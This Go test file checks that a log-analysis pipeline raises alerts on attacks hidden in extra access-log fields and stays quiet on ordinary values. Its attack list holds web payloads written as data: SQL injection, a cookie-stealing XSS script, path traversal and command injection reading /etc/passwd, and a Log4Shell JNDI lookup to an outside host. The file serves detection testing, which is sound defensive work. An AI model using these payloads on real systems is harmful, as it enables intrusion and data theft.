package pipeline

import (
	"fmt"
	"slices"
	"testing"

	"github.com/tinylib/msgp/msgp"
)

// What administrators add to their access logs has no name, and reaches the rules all the same: ordinary values do not alarm,
// attacks do, wherever they stand.
func TestLeftOverFields(t *testing.T) {
	const bare = "before the referer, without quotes"
	places := map[string]string{
		"behind the agent, in quotes":   `"-" "Mozilla/5.0 (X11; Linux x86_64)" "%s"`,
		"behind two others":             `"-" "Mozilla/5.0 (X11; Linux x86_64)" "-" 0.004 "%s"`,
		"behind the agent, with a name": `"-" "Mozilla/5.0 (X11; Linux x86_64)" rt=0.004 extra="%s"`,
		"before the referer, in quotes": `"%s" "-" "Mozilla/5.0 (X11; Linux x86_64)"`,
		bare:                            `%s "-" "Mozilla/5.0 (X11; Linux x86_64)"`,
	}
	ordinary := []string{
		"0.005", "17", "0.1, 0.2", "0.004 : 0.010", "MISS", "HIT from edge-7", "TLSv1.3", "ECDHE-RSA-AES128-GCM-SHA256", "h2", "gzip", "DE", "Frankfurt am Main",
		"10.0.0.5:8080", "10.0.0.5:8080, 10.0.0.6:8080", "[2001:db8::7]:8080", "unix:/run/php/php8.2-fpm.sock", "shop-cart-80", "shop-cart-7d9c6b5f4-x2x7k", "203.0.113.9, 10.0.0.1",
		"shop.example.com", "shop.example.com:8443", "https://shop.example.com/cart?id=7&size=m", "/cart/items", "POST", "text/html; charset=utf-8", "application/json",
		"2b0c7a9d51e84f66b1a3d0c2e7f49a18", "6f1f2b3c-0d1e-4f5a-8b7c-9d0e1f2a3b4c", "Root=1-67891233-abcdef012345678912345678", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
		"arn:aws:elasticloadbalancing:eu-central-1:123456789012:targetgroup/shop/50dc6c495c0c9188", "bGF0ZW5jeT0xMg==", "en-US,en;q=0.9,de;q=0.8", "max-age=3600, must-revalidate",
		"Mon, 20 Nov 2026 10:11:12 GMT", "2026-11-20T10:11:12.482Z", "1795169472.482", "jane@example.com", "jane.doe", "O'Brien", "session=7f3a9c; theme=dark", "ok", "-", "error: upstream timed out",
		"Not?A_Brand;v=24, Chromium;v=124", "on", "true", "null", "512/2048", "+02:00", "a=1&b=2", "backend~ default/web1", "tcp://10.0.2.1:80",
	}
	words := []string{"1 union select password from users"} // without quotes these may be fields of a word each
	attacks := []string{
		"1' or 1=1-- -", "<script>alert(document.cookie)</script>", "../../../../etc/passwd", "${jndi:ldap://203.0.113.66/a}", ";cat /etc/passwd",
	}
	p, _ := newPipeline(t, "workers=1", "mapping=auto")
	alarms := func(place, value string) bool {
		line := `192.0.2.7 - - [20/Nov/2026:10:11:12 +0000] "GET /shop?page=2 HTTP/1.1" 200 512 ` + fmt.Sprintf(places[place], value)
		record := msgp.AppendString(msgp.AppendString(msgp.AppendMapHeader(nil, 1), "log"), line)
		made := p.Process("t", newEvent(1, record))
		return len(made.Alerts) > 0
	}
	for place := range places {
		for _, value := range ordinary {
			if alarms(place, value) {
				t.Errorf("%s: %q alarms", place, value)
			}
		}
		sent := attacks
		if place != bare {
			sent = slices.Concat(attacks, words)
		}
		for _, value := range sent {
			if !alarms(place, value) {
				t.Errorf("%s: %q does not alarm", place, value)
			}
		}
	}
	if s := p.Snapshot(); s.Mapped["nginx"] != s.Records {
		t.Errorf("of %d lines %v are mapped", s.Records, s.Mapped)
	}
}
